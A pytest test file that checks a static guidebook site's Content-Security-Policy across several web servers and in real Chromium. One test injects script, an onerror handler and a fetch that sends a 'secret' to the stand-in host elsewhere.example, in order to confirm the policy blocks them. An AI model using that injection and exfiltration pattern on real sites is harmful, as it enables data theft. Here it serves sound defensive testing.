"""The policy of the built site, held by the pages alone and by each server that we write a file for.

Everything a reader does runs under it in a real Chromium without one violation; and what the policy is for, a script
that nobody built, does not run.
"""

from __future__ import annotations

import fnmatch
import functools
import gzip
import http.client
import http.server
import os
import re
import shutil
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from lxml import html

from guidebook import policy
from guidebook.series import url_of
from tests.conftest import BASE

ROOT = Path(__file__).parent.parent.parent
CHAPTER, LISTS = "identification/the-conversation/", "identification/into-practice/"
SERVERS = ("pages", "_headers", "caddy", "nginx")  # "pages": a server that knows nothing, the pages speak for themselves
on_servers_with_headers = pytest.mark.parametrize("base", SERVERS[1:], indirect=True)
on_real_servers = pytest.mark.parametrize("base", SERVERS[2:], indirect=True)
NGINX = shutil.which("nginx", path=f"{os.environ.get('PATH', '')}:/usr/sbin")


@pytest.fixture(scope="module")
def published(site, tmp_path_factory) -> Path:
    """The site as it is published: a copy, sealed by the command that people run (again, if it is sealed already)."""
    out = tmp_path_factory.mktemp("published") / "site" / BASE.strip("/")
    shutil.copytree(site, out)
    done = subprocess.run(
        [sys.executable, "-m", "guidebook", "policy", "--out", str(out)], cwd=ROOT, capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stdout + done.stderr
    return out


@pytest.fixture(scope="module")
def promised(published) -> dict[str, str]:
    """The headers that every answer must have."""
    promised = policy.headers(policy.seal(published))
    assert "frame-ancestors 'none'" in promised["Content-Security-Policy"] and "unsafe" not in str(promised)
    return promised


def root_of(published: Path) -> Path:
    """What a server shows at `/`: the site, or the folder that it lies in when site_url has a path (deploy/README.md)."""
    return published if BASE == "/" else published.parents[BASE.strip("/").count("/")]


def rules_of(file: Path) -> list[tuple[str, str, str]]:
    """A `_headers` file as Netlify and Cloudflare Pages read it: (path, name, value); raises for a line they would not take."""
    rules, path = [], None
    for line in file.read_text(encoding="utf-8").splitlines():
        assert len(line) <= 2000, "Cloudflare Pages drops longer lines"
        if not line.strip() or line.startswith("#"):
            continue
        if not line[0].isspace():
            assert line.startswith("/") and line.count("*") <= 1, line
            path = line.strip()
            continue
        name, colon, value = line.strip().partition(": ")
        assert path and colon and re.fullmatch(r"[A-Za-z-]+", name) and value, line
        rules.append((path, name, value))
    assert len({path for path, _, _ in rules}) <= 100, "Cloudflare Pages reads a hundred rules"
    return rules


class _HeadersHost(http.server.SimpleHTTPRequestHandler):
    """Such a host: reads the file, does not show it, and answers what is not there with 404.html."""

    rules: list = []
    extensions_map = {**http.server.SimpleHTTPRequestHandler.extensions_map, ".webmanifest": "application/manifest+json"}

    def end_headers(self):
        found: dict[str, list[str]] = {}
        for path, name, value in self.rules:
            if fnmatch.fnmatchcase(self.path.partition("?")[0], path):
                found.setdefault(name, []).append(value)
        for name, values in found.items():  # of the same name: joined, as the hosts do
            self.send_header(name, ", ".join(values))
        super().end_headers()

    def translate_path(self, path):
        found = super().translate_path(path)
        return found + "-hidden" if Path(found).name == "_headers" else found

    def send_error(self, code, message=None, explain=None):
        body = (Path(self.directory) / BASE.strip("/") / "404.html").read_bytes()
        self.send_response(code)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def _wait(port: int, process: subprocess.Popen, log: Path) -> None:
    for _ in range(100):
        assert process.poll() is None, log.read_text()
        try:
            socket.create_connection(("127.0.0.1", port), timeout=1).close()
            return
        except OSError:
            time.sleep(0.1)
    raise AssertionError(f"no answer on port {port}: {log.read_text()}")


@pytest.fixture(scope="module", params=SERVERS)
def base(request, published, serve, tmp_path_factory):
    """The address of the published site on each server in turn, with our file as it was written."""
    if request.param == "pages":
        yield serve(published)
        return
    if request.param == "_headers":
        handler = type("Handler", (_HeadersHost,), {"rules": rules_of(published / "_headers")})
        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(handler, directory=str(root_of(published))))
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}{BASE}"
        server.shutdown()
        server.server_close()
        return
    files, place, port = policy.server_folder(published), tmp_path_factory.mktemp(request.param), _free_port()
    log = place / "log"
    if request.param == "caddy":
        command = ["caddy", "run", "--config", str(files / "Caddyfile"), "--adapter", "caddyfile"]
        environment = os.environ | {
            "SITE_ADDRESS": f"http://127.0.0.1:{port}", "SITE_ROOT": str(root_of(published)), "CADDY_ADMIN": f"127.0.0.1:{_free_port()}",
            "HOME": str(place), "XDG_DATA_HOME": str(place), "XDG_CONFIG_HOME": str(place),
        }  # fmt: skip
    else:
        temporary = "".join(f"{name}_temp_path {place}/{name};" for name in ("client_body", "proxy", "fastcgi", "uwsgi", "scgi"))
        # Workers of a server started as root run as somebody who may not read this test's folder.
        (place / "main.conf").write_text(
            f"{'user root;' if os.getuid() == 0 else ''} worker_processes 1; pid {place}/pid; daemon off; events {{}}\n"
            f"http {{ {temporary} server {{ listen 127.0.0.1:{port}; root {root_of(published)}; include {files}/nginx.conf; }} }}\n"
        )
        command, environment = [NGINX, "-p", str(place), "-e", str(log), "-c", str(place / "main.conf")], dict(os.environ)
    with log.open("w") as out, subprocess.Popen(command, env=environment, stdout=out, stderr=subprocess.STDOUT) as process:
        try:
            _wait(port, process, log)
            yield f"http://127.0.0.1:{port}{BASE}"
        finally:
            process.terminate()
    assert "[warn]" not in log.read_text() and "[emerg]" not in log.read_text(), log.read_text()


class Watched:
    """A browser context that writes down all it should not see."""

    def __init__(self, browser, base: str):
        self.context = browser.new_context(viewport={"width": 1280, "height": 900}, accept_downloads=True, permissions=["clipboard-write"])
        self.violations: list[str] = []
        self.console: list[str] = []
        self.requests: list = []
        self.context.expose_binding("violation", lambda source, what: self.violations.append(what))
        self.context.add_init_script(
            "addEventListener('securitypolicyviolation', (e) =>"
            " violation(`${location.pathname}: ${e.effectiveDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber} ${e.sample}`))"
        )
        self.context.on("console", lambda message: self.console.append(message.text) if message.type in ("error", "warning") else None)
        self.context.on("weberror", lambda error: self.console.append(str(error.error)))
        self.context.on("request", lambda request: self.requests.append(request))
        self.base, self.page = base, self.context.new_page()

    def verify(self) -> None:
        self.page.wait_for_timeout(100)
        assert not self.violations
        assert not self.console
        assert not self.context.cookies()
        foreign = [request.url for request in self.requests if not request.url.startswith((self.base, "data:", "blob:"))]
        assert not foreign
        # A sheet may say its own name when it asks for a font.
        told = [request.url for request in self.requests if not re.search(r"^$|\.css$", request.headers.get("referer", ""))]
        assert not told, "a page says where its reader came from"


@pytest.fixture
def watched(browser, base):
    watched = Watched(browser, base)
    yield watched
    watched.context.close()


def get(base: str, path: str, **headers) -> http.client.HTTPResponse:
    address = urlsplit(base + path)
    connection = http.client.HTTPConnection(address.netloc, timeout=10)
    connection.request("GET", address.path, headers=headers)
    answer = connection.getresponse()
    answer.body = answer.read()
    connection.close()
    return answer


# ---- what stands in the pages


def test_each_page_says_its_policy_before_anything_that_it_governs(published):
    files = list(published.rglob("*.html"))
    assert len(files) > 400
    for file in files:
        head = html.parse(str(file), parser=html.HTMLParser(encoding="utf-8")).getroot().find("head")
        first, second = list(head)[:2]
        assert first.get("charset"), file
        assert second.get("http-equiv") == "Content-Security-Policy", file
        assert len(head.xpath('./meta[@http-equiv="Content-Security-Policy"]')) == 1, file
        said = second.get("content")
        assert said.startswith("default-src 'none'; script-src 'self'") and "unsafe" not in said and "*" not in said, file
        assert "frame-ancestors" not in said, "browsers ignore it in a page, and say so in the console"


def test_a_page_allows_its_own_inline_scripts_only(published):
    """The pages that forward have none, so no hash; the print pages do not get the reading pages' hashes."""
    def said(path):
        return html.parse(str(published / path)).xpath('string(//meta[@http-equiv="Content-Security-Policy"]/@content)')

    assert "sha256" not in said("go/id8/index.html")
    reading, printed = (set(re.findall(r"sha256-\S+'", said(path))) for path in (f"{CHAPTER}index.html", "identification/print/index.html"))
    assert reading and printed and printed != reading


def test_the_command_that_builds_the_site_seals_it(site, published):
    if os.environ.get("GUIDEBOOK_SITE"):
        pytest.skip("somebody else built this site")
    for file in site.rglob("*.html"):
        assert file.read_bytes() == (published / file.relative_to(site)).read_bytes(), "sealing once more changes nothing"
    assert (policy.server_folder(site) / "nginx.conf").read_bytes() == (policy.server_folder(published) / "nginx.conf").read_bytes()


# ---- what a reader does


def test_reading_searching_and_writing(watched):
    page = watched.page
    page.goto(watched.base)
    page.goto(watched.base + CHAPTER)
    page.locator(".search-open").click()
    page.keyboard.type("deportation")
    page.locator(".search-link").first.wait_for()
    page.keyboard.press("ArrowDown")
    with page.expect_navigation():
        page.keyboard.press("Enter")
    page.goto(f"{watched.base}{CHAPTER}#id8-n1")
    page.locator("#id8-n1 textarea").fill("I say who I am.")
    page.get_by_role("button", name="Keep on this device").first.click()
    page.get_by_role("button", name="No, only in this tab").click()
    page.locator(".cite a").first.focus()
    page.goto(watched.base + LISTS)
    page.locator(".checklist input[type=checkbox]").first.scroll_into_view_if_needed()
    page.locator(".tick-foot").first.wait_for(state="attached")
    page.locator(".checklist input[type=checkbox]").first.check()
    page.goto(f"{watched.base}my-notes/")
    for name in ("Word document", "Plain text", "Backup file"):
        with page.expect_download() as download:
            page.get_by_role("button", name=name, exact=True).click()
        assert Path(download.value.path()).stat().st_size > 100
    watched.verify()


def test_training_and_printing(watched, series):
    page = watched.page
    page.goto(f"{watched.base}{CHAPTER}?view=project#id8-e1")
    page.locator("dialog.projector").wait_for()
    page.keyboard.press("ArrowRight")
    page.locator(".projector-close").click()
    for guide in series.guides:
        page.goto(f"{watched.base}{guide.slug}/print/")
        page.locator(".print-bar input[type=radio]").first.wait_for()
        drawing = page.locator(".figure .drawing").first
        assert drawing.evaluate("(e) => getComputedStyle(e.querySelector('text')).fontSize") == "15px", "the drawing's own style counts"
    page.goto(f"{watched.base}training/")
    watched.verify()


def test_links_filters_and_leaving(watched):
    page = watched.page
    page.goto(f"{watched.base}identification/who-is-missed/")
    page.locator(".copy-link").click()
    page.locator(".copied").filter(has_text="Copied").wait_for()
    page.goto(f"{watched.base}go/id4/")
    page.wait_for_url(re.compile("identification/who-is-missed/"))
    page.goto(f"{watched.base}evidence/")
    listed = page.locator(".library-list > li:visible")
    everything = listed.count()
    page.get_by_label("Country").select_option("Viet Nam")
    assert 0 < listed.count() < everything
    page.get_by_label("Words").fill("fishers")
    page.locator(".library-count", has_text=" of ").wait_for()
    page.locator(".library-filters input").press("Enter")  # sends nothing
    assert page.url == f"{watched.base}evidence/"
    page.get_by_role("button", name="Show all").click()
    page.get_by_role("button", name="Leave this page").first.click()
    page.wait_for_url(re.compile("calendar/"))
    page.locator("#month table, #month *").first.wait_for()
    watched.verify()


@pytest.mark.parametrize("base", ["_headers"], indirect=True)  # header and page together; each page is the same on all
def test_every_page_opens_without_a_violation(browser, base, series, published):
    watched = Watched(browser, base)
    paths = {url_of(series.by_path[path].path) for path in series.nav}
    paths |= {f"{file.parent.relative_to(published).as_posix()}/" for file in published.rglob("index.html") if "go" not in file.parts}
    for path in sorted(paths - {"./"}):
        watched.page.goto(base + path)
    watched.page.goto(f"{base}404.html")
    watched.verify()
    watched.context.close()


def test_works_from_a_folder_too(browser, published):
    """A copy on a stick: for a file's page, 'self' is the files."""
    watched = Watched(browser, "file://")
    page = watched.page
    page.goto(f"{published.as_uri()}/{CHAPTER}index.html#id8-n1")
    page.locator("#id8-n1 textarea").fill("I say who I am.")
    assert page.locator("#id8-n1 textarea").evaluate("(e) => getComputedStyle(e).fontFamily").count("Source Sans")
    page.goto(f"{published.as_uri()}/calendar/index.html")
    page.locator("#month *").first.wait_for()
    page.wait_for_timeout(100)
    watched.context.close()
    assert not watched.violations


# ---- what the policy is for


def test_what_nobody_built_does_not_run(watched):
    page = watched.page
    page.goto(watched.base + CHAPTER)
    asked = len(watched.requests)
    injected, colour = page.evaluate("""async () => {
        const script = document.createElement("script");
        script.textContent = "window.injected = true";
        const box = document.createElement("div");
        box.innerHTML = `<img src="data:," onerror="window.injected = true"><p style="color: red" id="dyed">x</p>
            <iframe src="/about/"></iframe><form action="/elsewhere"><button id="send"></button></form>`;
        document.body.append(script, box);
        try { await fetch("https://elsewhere.example/?note=secret") } catch {}
        new Image().src = "https://elsewhere.example/picture.png";
        document.getElementById("send").click();
        await new Promise((done) => setTimeout(done, 300));
        return [window.injected, getComputedStyle(document.getElementById("dyed")).color];
    }""")
    assert injected is None
    assert colour != "rgb(255, 0, 0)"
    assert page.url == watched.base + CHAPTER
    stopped = " ".join(watched.violations)
    for directive in ("script-src-elem", "script-src-attr", "style-src-attr", "frame-src", "form-action", "connect-src", "img-src"):
        assert directive in stopped, directive
    assert not [request.url for request in watched.requests[asked:] if "elsewhere" in request.url and not request.failure]


def test_a_built_script_that_was_changed_does_not_run(browser, published, tmp_path, serve):
    shutil.copytree(published, tmp_path / "site", ignore=shutil.ignore_patterns("*.pdf", "*.woff2"))
    file = tmp_path / "site" / CHAPTER / "index.html"
    text = file.read_text(encoding="utf-8")
    assert "const html=document.documentElement" in text
    file.write_text(text.replace("const html=document.documentElement", "window.injected = 1; const html=document.documentElement", 1), encoding="utf-8")
    watched = Watched(browser, serve(tmp_path / "site"))
    watched.page.goto(watched.base + CHAPTER)
    assert watched.page.evaluate("window.injected") is None
    assert any("script-src-elem inline" in what for what in watched.violations)
    watched.context.close()


# ---- what the servers say


def kind(request) -> str:
    return request.node.callspec.params["base"]


@on_servers_with_headers
def test_headers_are_as_promised(base, promised, request):
    for path in ("", CHAPTER, "identification/print/", "assets/images/logo.svg", "not/there/", "search/search_index.json"):
        answer = get(base, path)
        assert {name: answer.getheader(name) for name in promised} == promised, path
        assert answer.getheader("Set-Cookie") is None
        for name in ("Server", "X-Powered-By"):
            assert kind(request) == "_headers" or not re.search(r"\d", answer.getheader(name) or ""), "no version told"


@on_servers_with_headers
def test_what_is_not_there_gets_our_page(base, request):
    paths = ["not/there/", "not-there.js", "assets/not.0123abcd.js", "_headers"]
    if kind(request) in ("caddy", "nginx"):
        paths.append(".git/config")
    for path in paths:
        answer = get(base, path)
        assert answer.status == 404, path
        assert b"<html" in answer.body and answer.getheader("Content-Type").startswith("text/html"), path
        assert kind(request) == "_headers" or answer.getheader("Cache-Control") == "no-cache", path


def test_a_folder_without_its_slash_is_sent_to_it(base):
    answer = get(base, CHAPTER.rstrip("/"))
    assert answer.status in (301, 302, 308) and answer.getheader("Location").endswith(f"/{CHAPTER}")


@on_real_servers
def test_files_have_their_types_and_go_compressed(base, published):
    folder = published / "types"
    folder.mkdir(exist_ok=True)
    for ending in policy.TYPES:
        (folder / f"file.{ending}").write_text("words " * 400, encoding="utf-8")
    answers = {ending: get(base, f"types/file.{ending}", **{"Accept-Encoding": "gzip"}) for ending in policy.TYPES}
    shutil.rmtree(folder)
    for ending, type in policy.TYPES.items():
        answer = answers[ending]
        assert answer.getheader("Content-Type") == type + ("; charset=utf-8" if ending in policy.TEXTS else ""), ending
        assert (answer.getheader("Content-Encoding") == "gzip") == (ending in policy.TEXTS), ending
        if ending in policy.TEXTS:
            assert gzip.decompress(answer.body).startswith(b"words"), ending
    assert get(base, CHAPTER).getheader("Content-Type") == "text/html; charset=utf-8"


@on_servers_with_headers
def test_a_correction_reaches_readers_and_what_cannot_change_is_kept(base, published, request):
    kept = [file.relative_to(published).as_posix() for file in published.rglob("*") if file.is_file() and policy.HASHED.search(file.name)]
    for path in kept:
        assert get(base, path).getheader("Cache-Control") == "public, max-age=31536000, immutable", path
    for path in ("", CHAPTER, "assets/scripts/site.js"):
        assert "immutable" not in (get(base, path).getheader("Cache-Control") or ""), path
    if kind(request) in ("caddy", "nginx"):
        first = get(base, CHAPTER)
        assert first.getheader("Cache-Control") == "no-cache" and first.getheader("ETag")
        again = get(base, CHAPTER, **{"If-None-Match": first.getheader("ETag")})
        assert again.status == 304 and not again.body
